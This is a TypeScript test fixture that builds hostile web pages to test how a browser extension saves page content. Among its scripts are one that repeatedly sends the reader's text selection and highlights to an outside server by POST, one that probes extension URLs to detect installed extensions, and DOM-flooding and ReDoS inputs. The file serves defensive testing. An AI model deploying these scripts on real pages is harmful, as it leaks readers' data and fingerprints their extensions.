import {
  coveringPage,
  endlessPage,
  forgingPage,
  formPage,
  framesPage,
  greedyPage,
  movingPage,
  naggingPage,
  storyPage,
  trackingPage,
  unwritablePage,
} from './hostile-acts';
import {
  giantPage,
  hostileQuote,
  largePages,
  longSelectionPage,
  pagesLikeClean,
  poisonedAddresses,
  restlessPage,
  slowForPatterns,
} from './hostile-pages';

/* Each page of shared/security/hostile-pages.json that is a page, as it is met in whatever state the extension is in. */

export type HostilePage = {
  readonly html: string;
  /** What is saved of it holds these. */
  readonly words: string;
  /** The message that says why nothing is saved of it. */
  readonly refusal?: 'failure_page_too_large' | 'failure_page_empty';
  /** Content-Security-Policy of the answer. */
  readonly policy?: string;
  readonly status?: number;
};

const script = (source: string) => `<script>${source.replaceAll('</', '<\\/')}</script>`;

const story = 'The bakers of Karsund have agreed';

/** Every element that it did not make itself goes, and every attribute. */
const fightingPage = storyPage('Karsund', {
  after: script(`
    new MutationObserver((changes) => {
      for (const { addedNodes, target, attributeName } of changes) {
        for (const node of addedNodes) if (node.nodeType === 1) node.remove();
        if (attributeName !== null) target.removeAttribute(attributeName);
      }
    }).observe(document, { childList: true, subtree: true, attributes: true });
  `),
});

const unstyledPage = storyPage('Karsund', {
  head: '<style>html * { all: unset !important; display: block !important; } html > :not(head, body) { display: none !important; opacity: 0 !important; } :host { display: none !important; }</style>',
});

/** Tells a server of others what it can read of the reader's marks. */
const readingPage = (elsewhere: string) =>
  storyPage('Karsund', {
    after: script(`
      setInterval(() => {
        const told = [[...CSS.highlights.keys()], getSelection().toString(), document.adoptedStyleSheets.length, [...document.querySelectorAll('*')].filter((element) => element.shadowRoot).length];
        fetch('${elsewhere}/told', { method: 'POST', mode: 'no-cors', body: JSON.stringify(told) }).catch(() => {});
      }, 100);
    `),
  });

/** As deep as can be: Chromium's own tab crashes at 3,000. */
const deepPage = storyPage('Karsund', {
  after: script(`
    let place = document.body;
    for (let depth = 0; depth < 2000; depth++) place = place.appendChild(document.createElement('div'));
    place.append('At the bottom of it all.');
  `),
});

const probingPage = storyPage('Karsund', {
  after: script(`
    for (const name of ['manifest.json', 'popup.html', 'background.js', 'content-scripts/sentinel.js'])
      for (const scheme of ['chrome-extension', 'moz-extension']) fetch(scheme + '://postil/' + name).catch(() => {});
  `),
});

const moving: HostilePage = { html: movingPage, words: story };

/** By the name of the page on the test's server; what moves does so by its name. */
export const hostilePages = (elsewhere: string): Readonly<Record<string, HostilePage>> => ({
  'dom-1m': { html: giantPage(), words: 'aaaa' },
  'text-1': { html: largePages['text-1'] ?? '', words: '', refusal: 'failure_page_too_large' },
  deep: { html: deepPage, words: story },
  mutate: { html: restlessPage, words: hostileQuote },
  fight: { html: fightingPage, words: story },
  'inf-scroll': { html: endlessPage, words: story },
  'evil-getters': { html: pagesLikeClean['evil-getters'] ?? '', words: hostileQuote },
  clobber: { html: pagesLikeClean.clobber ?? '', words: hostileQuote },
  'hidden-members': { html: pagesLikeClean['hidden-members'] ?? '', words: hostileQuote },
  'fake-events': { html: forgingPage, words: story },
  clickjack: { html: coveringPage, words: story },
  'css-reset': { html: unstyledPage, words: story },
  'read-hl': { html: readingPage(elsewhere), words: story },
  'post-msg': { html: pagesLikeClean['post-msg'] ?? '', words: hostileQuote },
  'iframe-evil': { html: framesPage(elsewhere), words: story },
  'war-probe': { html: probingPage, words: story },
  'csp-strict': {
    html: storyPage('Karsund'),
    words: story,
    policy:
      "default-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'; style-src 'none'; sandbox allow-scripts allow-same-origin",
  },
  urls: { html: poisonedAddresses, words: hostileQuote },
  jsonld: { html: pagesLikeClean.jsonld ?? '', words: hostileQuote },
  redos: {
    html: slowForPatterns(['a'.repeat(50_000), '1 '.repeat(50_000), ' by'.repeat(20_000)]),
    words: hostileQuote,
  },
  selection: { html: longSelectionPage, words: hostileQuote },
  'moving-push': moving,
  'moving-location': moving,
  'moving-reload': moving,
  'moving-back': moving,
  'moving-file': moving,
  'moving-blob': moving,
  'login-form': { html: formPage, words: story },
  'paywall-err': {
    html: '<h1>Internal Server Error</h1>',
    words: '',
    refusal: 'failure_page_empty',
    status: 500,
  },
  'two-articles': { html: storyPage('Karsund'), words: story },
  dialog: { html: naggingPage, words: story },
  memory: { html: greedyPage, words: story },
  tracker: { html: trackingPage(elsewhere), words: story },
  locale: { html: unwritablePage, words: story },
});
